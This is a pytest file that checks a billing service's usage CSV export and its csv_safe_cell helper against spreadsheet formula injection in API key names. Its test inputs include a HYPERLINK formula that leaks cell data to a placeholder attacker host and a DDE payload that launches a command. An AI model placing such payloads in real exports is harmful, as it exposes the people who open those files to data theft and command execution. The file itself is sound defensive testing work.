"""The usage export never hands a spreadsheet a formula from a user-chosen key name."""

from __future__ import annotations

import csv
import io

import pytest

from accounts.services import api_key_create
from billing.apis import csv_safe_cell
from billing.metering import metering_record

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_usage_csv_escapes_key_names_that_start_a_formula(api_a, org_a, alice, name):  # type: ignore[no-untyped-def]
    key = api_key_create(organization=org_a, name=name, created_by=alice).api_key
    metering_record(organization_id=org_a.pk, api_key_id=key.pk, operation="command")
    response = api_a.get("/api/v1/usage.csv")
    assert response.status_code == 200, response.content
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    names = {row[1]: row[2] for row in rows[1:]}
    # api_key_create strips surrounding whitespace, so compare with what was stored.
    assert names[str(key.pk)] == "'" + key.name
    assert names[str(key.pk)][0] == "'"


@pytest.mark.parametrize("value", ["\tcmd", "\rcmd", "=1", "+1", "-1", "@A1"])
def test_csv_safe_cell_quotes_every_formula_start(value: str) -> None:
    assert csv_safe_cell(value) == "'" + value


def test_csv_safe_cell_leaves_plain_values_alone() -> None:
    assert csv_safe_cell("key a") == "key a"
    assert csv_safe_cell("2026-01-02") == "2026-01-02"
    assert csv_safe_cell(3) == 3
    assert csv_safe_cell("a=b") == "a=b"
